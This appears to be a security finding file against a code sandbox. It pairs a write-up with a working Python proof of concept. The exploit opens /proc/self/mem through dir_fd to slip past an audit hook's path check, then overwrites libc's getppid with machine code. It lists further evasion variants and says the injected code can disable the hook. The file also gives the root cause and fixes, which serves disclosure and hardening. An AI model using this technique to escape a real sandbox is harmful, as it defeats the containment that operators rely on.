# FINDING 1 (bypass, native_code): new native code runs under the DEFAULT pipeline: default policy
# (static layer on, it allows this program), default tier, both run-time layers on.
#
#   $ sbxgate run --format json findings/01_native_code_default_pipeline.py
#   decision.allow=true tier=untrusted, result.exit_code=0, violations=[],
#   enforcement.layers=[seccomp audit_hook], stdout "getppid() -> 0x1337"
#
# /proc/self/mem writes go through read-only executable mappings (FOLL_FORCE, as for a debugger;
# kernel 6.18 here, proc_mem.force_override not set to "never"): machine code written over libc's
# getppid runs when os.getppid() is called. No mmap/mprotect with PROT_EXEC is made, so neither
# the kernel filter nor the test witness sees anything. The hook's only guard is its lexical path
# check on the "open" event, and that event does not carry dir_fd.
# Other openers that pass the hook: testdata/adaptive/procmem/*.py (symlink to /tmp then "..",
# relative symlink judged against the cwd, str-subclass path, /proc/self/fd reopen, opener=,
# /proc/thread-self, /proc/self/task/N/mem). The static layer misses all of them too.
# The injected code can make any system call the container profile and the kernel filter allow
# (prlimit on process 1, AF_UNIX sockets, writes anywhere writable), and can disable the hook.
#
# Root cause class: the container leaves /proc/<self>/mem writable and the kernel filter cannot see
# paths; the only barrier is a path-string check in the interpreter. The witness only watches
# mmap/mprotect, so the enforcement suite cannot see this class at all.
# Fix classes: refuse the write at the kernel (Landlock write rules limited to /tmp and /dev/null,
# which need landlock_* in the container profile; or boot with proc_mem.force_override=never; or
# gVisor), and make the witness notice openat of */mem for writing.
import os
import struct


def libc_function(name):
    for line in open("/proc/self/maps"):
        f = line.split()
        if len(f) >= 6 and "/libc.so" in f[5] and int(f[2], 16) == 0:
            base, path = int(f[0].split("-")[0], 16), f[5]
            break
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return base + value
    raise LookupError(name)


proc = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
mem = os.open("mem", os.O_RDWR, dir_fd=proc)  # the "open" event shows "mem": /tmp/mem to the hook
os.pwrite(mem, bytes.fromhex("b837130000c3"), libc_function(b"getppid"))  # mov eax, 0x1337; ret
print("getppid() ->", hex(os.getppid()))
